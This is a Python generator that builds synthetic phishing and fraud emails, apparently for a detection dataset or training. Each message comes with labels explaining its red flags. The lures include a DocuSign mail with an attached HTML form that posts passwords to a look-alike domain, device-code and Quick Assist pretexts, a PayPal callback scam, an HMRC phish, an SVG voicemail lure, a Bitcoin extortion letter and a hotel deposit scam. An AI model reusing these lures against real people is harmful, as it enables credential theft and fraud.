"""Attack messages, English (09-16)."""
import base64

import systems as S
import facts as FX
from partners import _pp_hops
from kit import (compose, alt, text_to_html, html_escape, make, Text, Att, Multi, st, co, hexid, alnum)

LANG = "en"

SES_US = S.SES(region="us-east-1", rdns="a48-112.smtp-out.amazonses.com", ip="54.240.48.112")
FAKE_FENLAND = S.EXO(host="PAXP193MB2211", region="EURP193", lang="en-GB", zone="UK",
                     obe=("EUR02-VI1-obe.outbound.protection.outlook.com",
                          "mail-vi1eur02on2118.outbound.protection.outlook.com", "40.107.241.118"),
                     tenant="0d5c3f8e-61a2-4b7e-9f04-c8a1e2d73b55")
HELPDESK_TENANT = S.EXO(host="DB9P250MB0622", region="EURP250", lang="en-US", zone="UK",
                        obe=("EUR03-DB5-obe.outbound.protection.outlook.com",
                             "mail-db5eur03on2135.outbound.protection.outlook.com", "40.107.3.135"),
                        tenant="9a41e7c2-3f0b-4d8e-b6a5-17c2f9e04d38")
PAYPAL_UK = S.Custom(
    client=("mx3.slc.paypal.com", "mx3.slc.paypal.com", "173.0.84.227", "1.3-256"),
    hops=[_pp_hops],
    msgid=lambda ctx: "<%s.%s.%s.%s@ccg13mail%02d>" % (hexid(ctx.key + "1", 2, True), hexid(ctx.key + "2", 2, True),
                                                      str(int(hexid(ctx.key, 4), 16)), hexid(ctx.key + "4", 8, True),
                                                      1 + int(hexid(ctx.key, 1), 16) % 12),
    headers=[("X-Email-Type-Id", "PPC000654"), ("X-MaxCode-Template", "PPC000654"),
             ("PP-Correlation-Id", lambda ctx: hexid(ctx.key + "cid", 13))],
    boundary="--NextPart_048F8BC8A2197DE2036A_%s", style="esp", zone="ET")
BREVO = S.Brevo(rdns="smtp-relay.sendinblue.com", ip="185.41.28.114")
UK_SHARED = S.SMTPHost("exim", S.OutlookSMTP(lang="en-gb"), "server214.web-hosting.com", "198.54.116.214",
                       user_ip="154.47.24.190", lan="192.168.1.104", zone="UK", host_zone="ET")
PROTON = S.Custom(
    client=("mail-4322.protonmail.ch", "mail-4322.protonmail.ch", "185.70.43.22", "1.3-256"),
    hops=[],
    msgid=lambda ctx: "<%s=@proton.me>" % alnum(ctx.key, 86, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"),
    headers=[("X-Pm-Message-ID", lambda ctx: alnum(ctx.key + "pm", 12))],
    boundary="b1=_%s", style="generic", zone="UTC")
MAILGUN_EU = S.Mailgun(rdns="m227-5.eu.mailgun.net", ip="185.250.239.5", mgdomain="mg.eima-housingbureau.com")


def a09():
    code = hexid("a-en-09-code", 32, True)
    link = "https://docusign-envelopes.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (
        S.uuid_of("a-en-09-a"), S.uuid_of("a-en-09-acct"), S.uuid_of("a-en-09-er"))
    text = """Tom Harris sent you a document to review and sign.

REVIEW DOCUMENT
%s

Tom Harris
tom.harris@fenlandagri.co.uk

James,

Please find the 2027 dealer agreement with the revised margin schedule for review and signature. A copy is attached for offline viewing.

Kind regards
Tom

Powered by Docusign

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
%s
""" % (link, code)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="background:#eaeaea;margin:0;padding:0"><table align="center" width="640" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;margin-top:20px" cellpadding="0" cellspacing="0">
<tr><td style="padding:24px 24px 0"><span style="font-size:22px;color:#000;font-weight:bold;letter-spacing:-1px">docusign</span></td></tr>
<tr><td style="padding:24px"><table width="100%%" style="background:#1e4ca1;color:#ffffff" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:28px 20px">
<p style="font-size:16px;margin:0 0 20px">Tom Harris sent you a document to review and sign.</p>
<a href="%s" style="background:#ffc423;color:#000;text-decoration:none;font-weight:bold;font-size:14px;padding:12px 24px;border-radius:2px;display:inline-block">REVIEW DOCUMENT</a>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 20px;font-size:15px;color:#333"><b>Tom Harris</b><br><a href="mailto:tom.harris@fenlandagri.co.uk" style="color:#2463d1">tom.harris@fenlandagri.co.uk</a><br><br>James,<br><br>Please find the 2027 dealer agreement with the revised margin schedule for review and signature. A copy is attached for offline viewing.<br><br>Kind regards<br>Tom</td></tr>
<tr><td style="padding:20px 24px;background:#f4f4f4;font-size:11px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br><b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code:<br>%s</td></tr>
</table></body></html>""" % (link, code)
    page = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Docusign - Fenland Agri - Dealer Agreement 2027</title>
<style>body{margin:0;font-family:"Segoe UI",Helvetica,Arial,sans-serif;background:#f2f2f2}
.wrap{max-width:440px;margin:70px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin-bottom:18px}
button{background:#0067b8;color:#fff;border:0;padding:9px 30px;font-size:15px;float:right}</style></head>
<body><div class="wrap">
<div style="font-weight:600;font-size:14px;color:#5e5e5e">Microsoft</div>
<h2 style="font-weight:600;font-size:22px">Sign in to view document</h2>
<p style="font-size:13px">Fenland Agri - Dealer Agreement 2027.pdf (shared via Docusign)</p>
<form method="post" action="https://login.docusign-envelopes.net/common/oauth2/v2.0/authorize/submit">
<input type="email" name="login" value="james.whitfield@example.com">
<input type="password" name="passwd" placeholder="Password">
<input type="hidden" name="env" value="%s">
<button type="submit">Sign in</button></form>
<div style="clear:both"></div></div></body></html>
""" % hexid("a-en-09-env", 24)
    att = Att(page.encode("utf-8"), "text/html", "Fenland_Agri_Dealer_Agreement_2027.html", charset="utf-8")
    c = compose(SES_US, key="a-en-09", frm=("Docusign via Fenland Agri Supplies", "dse@docusign-envelopes.net"),
                to=[st("uk_mgr")], subject="Complete with Docusign: Fenland Agri - Dealer Agreement 2027.pdf",
                when="2026-10-22 13:05:11", env_from="0100019a%s@amazonses.com" % hexid("a-en-09-env", 20),
                body=lambda b: Multi("mixed", [Multi("alternative", [Text(text, "plain", "UTF-8", "quoted-printable"),
                                                                     Text(html, "html", "UTF-8", "quoted-printable")], b(1)), att], b(0)))
    return make(LANG, "docusign-html-credential", c,
                "Fake DocuSign envelope 'Fenland Agri - Dealer Agreement 2027' with a 'review document' link and an attached HTML file that shows a Microsoft sign-in form pre-filled with the recipient's address.",
                "Not sent by DocuSign (docusign.net) but through an Amazon SES account with look-alike docusign-envelopes.net; DocuSign never attaches HTML; the form posts the password to login.docusign-envelopes.net; real Fenland envelopes come from DocuSign's EU platform (see business 09).")


def a10():
    text = """Hi James,

Thanks for your time on the phone earlier. As promised I've set up a secure Teams session so we can go through the 2027 stocking order and the revised margin schedule with our finance director before Friday.

Because the documents include pricing, our IT have put the meeting behind Microsoft verification. To join:

1. Go to https://microsoft.com/devicelogin
2. Enter the code: H7QW4KJ2P
3. Sign in with your Example Group Microsoft 365 account as usual

The code expires 15 minutes after this email is sent, so if you miss it just reply and I'll generate a new one.

Speak shortly,
Tom

Tom Harris
Sales Director
Fenland Agri Supplies Ltd
Wisbech Road, March, Cambridgeshire PE15 0BA
T: +44 1354 652 180"""
    c = compose(FAKE_FENLAND, key="a-en-10", frm=("Tom Harris", "tom.harris@fenlandagri-uk.com"), to=[st("uk_mgr")],
                subject="Teams session re 2027 stocking order - access code", when="2026-11-05 10:12:37",
                body=lambda b: alt(b, text, text_to_html(text, "outlook", "EN-GB", "us-ascii"), "us-ascii"))
    return make(LANG, "teams-device-code", c,
                "Device-code phishing: 'Tom Harris' invites the UK manager to a 'secure Teams session' by entering a code at microsoft.com/devicelogin.",
                "Entering a device code signs the attacker's device into the victim's Microsoft 365 account (Storm-2372 style); look-alike domain fenlandagri-uk.com on a freshly created Microsoft 365 tenant (genuine Microsoft infrastructure, so no link or attachment to scan); real Teams invitations carry a join link (see business 10).")


def a11():
    text = """Hello Rachel,

Our monitoring shows that since 08:15 this morning your mailbox has been subscribed to several hundred newsletter and registration lists. This is a known spam-flooding technique and we are blocking the senders centrally.

To finish the clean-up we need to apply an updated filter profile directly on your laptop. One of our engineers from the Hannover service desk will contact you via Microsoft Teams within the next 15 minutes. The chat will show as "Example Group Help Desk" (External).

Please:
- accept the Teams chat request,
- start Quick Assist (press Ctrl + Windows + Q) and give the 6-digit security code to the engineer,
- do not restart or lock your laptop while the filter profile is applied (about 10 minutes).

Ticket: INC0048213
Priority: 2 - High

Kind regards,
IT Service Desk
Example Group"""
    c = compose(HELPDESK_TENANT, key="a-en-11", frm=("Example Group IT Service Desk", "servicedesk@examplegroupit.onmicrosoft.com"),
                to=[st("uk_acc")], subject="INC0048213 - Spam flood on your mailbox - engineer will contact you on Teams",
                when="2026-11-24 09:03:55",
                body=lambda b: alt(b, text, text_to_html(text, "outlook", "EN-US", "us-ascii"), "us-ascii"))
    return make(LANG, "helpdesk-teams-quickassist", c,
                "Remote-access vishing pretext: after an e-mail bombing, a fake 'IT Service Desk' announces a Teams call and asks the accountant to start Quick Assist and hand over the code.",
                "External *.onmicrosoft.com tenant posing as internal IT, 'External' Teams chat, Quick Assist session gives the caller full control (Storm-1811 / Black Basta playbook); Example Group IT announces it never does this (business 06).")


def a12():
    inv = "INV2-KX8M-47TQ-2RPD-9WZJ"
    note = ("Your Norton 360 for Business (10 devices) subscription was renewed automatically. GBP 489.99 will be charged "
            "to the payment method on file within 24 hours. If you did not authorise this renewal or wish to cancel and "
            "receive a full refund, call our billing desk on +44 20 3868 4417 (24/7) quoting your invoice number.")
    link = "https://www.paypal.com/invoice/p/#%s" % inv.replace("-", "")
    text = """Norton Billing Dept. sent you an invoice

Amount due: £489.99 GBP
Due on: On receipt
Invoice number: %s

Seller note:
%s

View and Pay Invoice
%s

Don't recognise this invoice? Don't pay it. Report it to PayPal.

PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.
Copyright © 1999-2026 PayPal, Inc. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A.
PayPal Email ID PPC000654""" % (inv, note, link)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;background:#f2f2f2">
<table align="center" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'PayPal Sans',Helvetica,Arial,sans-serif;color:#2c2e2f">
<tr><td style="padding:24px 32px"><span style="font-size:26px;font-weight:bold;color:#003087">Pay</span><span style="font-size:26px;font-weight:bold;color:#009cde">Pal</span></td></tr>
<tr><td style="padding:0 32px"><h1 style="font-size:24px;font-weight:400">Norton Billing Dept. sent you an invoice</h1>
<p style="font-size:32px;margin:8px 0">&pound;489.99 GBP</p><p>Due on: On receipt<br>Invoice number: %s</p>
<p style="background:#f5f7fa;padding:14px;border-radius:4px"><b>Seller note</b><br>%s</p>
<p><a href="%s" style="background:#0070e0;color:#fff;padding:12px 28px;border-radius:24px;text-decoration:none;font-weight:bold">View and Pay Invoice</a></p>
<p style="font-size:13px">Don't recognise this invoice? Don't pay it. <a href="https://www.paypal.com/invoice/report/%s">Report it to PayPal</a>.</p></td></tr>
<tr><td style="padding:24px 32px;font-size:11px;color:#687173">Copyright &copy; 1999-2026 PayPal, Inc. All rights reserved. PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A.<br>PayPal Email ID PPC000654</td></tr>
</table></body></html>""" % (inv, html_escape(note), link, inv.replace("-", ""))
    c = compose(PAYPAL_UK, key="a-en-12", frm=("PayPal", "service@paypal.co.uk"), to=[st("uk_acc")],
                subject="You've got a new invoice from Norton Billing Dept. (%s)" % inv, when="2026-11-12 04:41:20",
                env_from="service@paypal.co.uk",
                body=lambda b: alt(b, text, html, "UTF-8"))
    return make(LANG, "paypal-invoice-callback", c,
                "Callback phishing (TOAD) through a genuine PayPal invoice: a 'Norton Billing Dept.' merchant bills £489.99 for a renewal and tells the recipient to phone a number to cancel.",
                "Sent by PayPal's real infrastructure, but the merchant account is a fraudster's; Example Group buys no Norton licences via PayPal; the seller note is built to make the victim call a fake support line, which then leads to remote access or a 'refund' payment.")


def a13():
    link = "https://8jfq2.r.sp1-brevo.net/mk/cl/f/sh/" + alnum("a-en-13-l", 64, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
    vat = FX.EG_UK_VAT
    vatf = "GB %s %s %s" % (vat[2:5], vat[5:9], vat[9:])
    text = """Dear Customer,

VAT registration number: %s
Business name: EXAMPLE GROUP UK LTD

Our records show that your VAT Return for the period ending 30 September 2026 was received after the deadline. Under the penalty points system you have now reached the threshold of 4 penalty points and a financial penalty of £200 has been charged. Late payment interest of £86.41 has also been applied.

You can view the calculation, pay online or request a review within 30 days:

Sign in to your business tax account
%s

If no action is taken by 24 November 2026, the balance will be passed to our Debt Management team.

Yours faithfully

HM Revenue and Customs""" % (vatf, link)
    html = """<html><body style="font-family:Arial,sans-serif;font-size:16px;color:#0b0c0c;margin:0">
<div style="background:#0b0c0c;padding:10px 20px"><span style="color:#fff;font-weight:bold;font-size:26px">GOV.UK</span></div>
<div style="padding:20px;max-width:580px"><p>Dear Customer,</p>
<p>VAT registration number: %s<br>Business name: EXAMPLE GROUP UK LTD</p>
<p>Our records show that your VAT Return for the period ending 30 September 2026 was received after the deadline. Under the penalty points system you have now reached the threshold of 4 penalty points and a financial penalty of &pound;200 has been charged. Late payment interest of &pound;86.41 has also been applied.</p>
<p>You can view the calculation, pay online or request a review within 30 days:</p>
<p><a href="%s" style="color:#1d70b8">Sign in to your business tax account</a></p>
<p>If no action is taken by 24 November 2026, the balance will be passed to our Debt Management team.</p>
<p>Yours faithfully</p><p>HM Revenue and Customs</p></div>
<img width="1" height="1" src="https://8jfq2.r.sp1-brevo.net/tr/op/%s" alt=""></body></html>""" % (vatf, link, alnum("a-en-13-o", 48))
    c = compose(BREVO, key="a-en-13", frm=("HM Revenue & Customs", "no-reply@hmrc-businesstax.co.uk"), to=[st("uk_acc")],
                subject="VAT: late submission penalty and interest - action required (ref. XKVAT00018273645)",
                when="2026-11-10 08:40:02", env_from="bounces-8213647-rachel.moore=examplegroup.eu@hmrc-businesstax.co.uk",
                body=lambda b: alt(b, text, html, "utf-8"))
    return make(LANG, "hmrc-vat-penalty-phish", c,
                "Tax-authority credential phishing: 'HMRC' claims a late-submission VAT penalty plus interest and links to a 'business tax account' sign-in.",
                "Look-alike domain hmrc-businesstax.co.uk, sent via a Brevo bulk account with a tracked redirect link; HMRC's genuine e-mails come from GOV.UK Notify and only tell you to sign in via GOV.UK (business 13); debt-collection threat with a short deadline.")


def a14():
    u = base64.b64encode(b"james.whitfield@example.com").decode()
    svg = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="520" height="220" viewBox="0 0 520 220">
  <rect width="520" height="220" rx="10" fill="#1f2937"/>
  <text x="28" y="44" font-family="Segoe UI, Arial" font-size="18" fill="#ffffff">Voice message - 00:47</text>
  <text x="28" y="70" font-family="Segoe UI, Arial" font-size="13" fill="#9ca3af">From: +44 1733 ***412  |  To: James Whitfield  |  3 Dec 2026 11:24</text>
  <a xlink:href="https://voicemsg-portal.com/play/?u=%s&amp;id=%s" target="_blank">
    <rect x="28" y="100" width="464" height="64" rx="32" fill="#2563eb"/>
    <polygon points="58,116 58,148 84,132" fill="#ffffff"/>
    <rect x="104" y="128" width="360" height="6" rx="3" fill="#93c5fd"/>
    <text x="104" y="156" font-family="Segoe UI, Arial" font-size="12" fill="#dbeafe">Click to play (secure audio - sign-in required)</text>
  </a>
  <text x="28" y="200" font-family="Segoe UI, Arial" font-size="11" fill="#6b7280">Microsoft 365 Voice Service</text>
</svg>
""" % (u, hexid("a-en-14", 12))
    att = Att(svg.encode("utf-8"), "image/svg+xml", "VoiceMail_Playback_0047s.svg")
    text = """You have received a new voice message.

Caller: +44 1733 ***412
Length: 00:47
Received: 3 December 2026, 11:24

Open the attachment to play the message.

Microsoft 365 Voice Service"""
    c = compose(UK_SHARED, key="a-en-14", frm=("Voice Mail Service", "accounts@harlowplanthire.co.uk"), to=[st("uk_mgr")],
                subject="Voicemail received from +44 1733 ***412 (00:47) - 3 Dec 2026", when="2026-12-03 11:26:40",
                body=lambda b: Multi("mixed", [alt(b, text, text_to_html(text, "outlook", "EN-GB", "us-ascii"), "us-ascii", idx=1), att], b(0)))
    return make(LANG, "svg-voicemail-lure", c,
                "SVG attachment phishing: 'voicemail' notification with an SVG that draws a player; clicking it opens a sign-in page with the recipient's address base64-encoded in the URL.",
                "Sent from the hacked mailbox of an unrelated plant-hire firm on shared hosting, Microsoft voicemail is not delivered as SVG, the SVG is a clickable link to voicemsg-portal.com carrying the victim's address (credential-harvesting AiTM pattern); no script, purely a link.")


def a15():
    text = """Matthias Koehler,

We have had access to part of your network for several weeks. Before leaving we copied about 38 GB from your file server and from the mailboxes of your finance and sales staff, including:

- dealer and customer lists with price conditions for Germany, Poland and Italy,
- payroll exports 2025-2026,
- your correspondence with Hokuto Agri Machinery about the 2027 distribution contract.

We have no interest in damaging your business. If you pay, the data is deleted and nothing is published. If you do not, we will first send samples to your dealers and to Hokuto, and then publish everything on our site.

Price: 1.8 BTC
Wallet: %s

You have 72 hours from this message. Do not involve the police or an "incident response" company - we will know, and the price doubles. After payment, reply to this address with the transaction ID and we will send you proof of deletion.
""" % FX.BTC_EXTORT_EN
    c = compose(PROTON, key="a-en-15", frm=("", "leakteam.rx@proton.me"), to=[st("ceo")],
                subject="Example Group - your data - 72 hours", when="2026-12-08 02:14:09",
                body=Text(text, "plain", "us-ascii", "7bit"))
    return make(LANG, "data-extortion-bitcoin", c,
                "Extortion: anonymous sender claims to have stolen 38 GB (dealer lists, payroll, Hokuto contract mail) and demands 1.8 BTC to a bech32 address within 72 hours.",
                "Anonymous Proton Mail sender, no proof, generic claims, Bitcoin ransom, deadline and 'do not contact police' - extortion whether or not a breach happened; must be escalated, not answered.")


def a16():
    text = """Dear Ms Brandt,

We are contacting you as the appointed housing coordinator for exhibitors at EIMA International 2026, Bologna.

Our records show that Example Group has not yet confirmed its hotel accommodation for the exhibition period. We are currently holding the following allocation for your company:

Hotel: Hotel Fiera Congress Bologna (4*), 10 minutes from BolognaFiere by shuttle
Rooms: 6 double rooms for single use
Nights: 10 - 15 November 2026 (5 nights)
Rate: EUR 189.00 per room/night incl. breakfast, city tax excluded

Because of the very high demand this year, unconfirmed room blocks will be released to the waiting list on 16 October. To secure the allocation, please confirm the names of your staff by reply and transfer the 50%% deposit (EUR 2,835.00) to:

Beneficiary: Global Expo Housing SAS
IBAN: %s
BIC: BNPAFRPPXXX
Reference: EIMA26-EXG-0614

The balance is payable at check-in. Cancellation is free of charge until 20 October.

Best regards,

Laura Mancini
Exhibitor Housing Department
Global Expo Housing - EIMA 2026
T: +39 051 094 7731""" % FX.F(FX.HOUSING_IBAN)
    html = text_to_html(text, "generic", charset="us-ascii")
    c = compose(MAILGUN_EU, key="a-en-16", frm=("EIMA 2026 Housing Bureau", "reservations@eima-housingbureau.com"),
                to=[st("assist")], subject="EIMA International 2026 - exhibitor room block for Example Group (release date 16 October)",
                when="2026-10-13 09:30:45", env_from="bounce+4e1a7c.2d9f-julia.brandt=example.com@mg.eima-housingbureau.com",
                body=lambda b: alt(b, text, html, "us-ascii", "7bit", "7bit"))
    return make(LANG, "eima-housing-scam", c,
                "Trade-fair housing scam: an 'official housing bureau' for EIMA International 2026 holds six rooms for Example Group and wants a EUR 2,835 deposit to a French account within three days.",
                "Unsolicited, no relation to the fair organiser, invented 'appointed coordinator' status, deadline to release rooms, deposit to a third-party account; bulk-sent via Mailgun from a look-alike domain. Example Group books through the organiser's accredited agency (business 16).")


def messages():
    return [a09(), a10(), a11(), a12(), a13(), a14(), a15(), a16()]
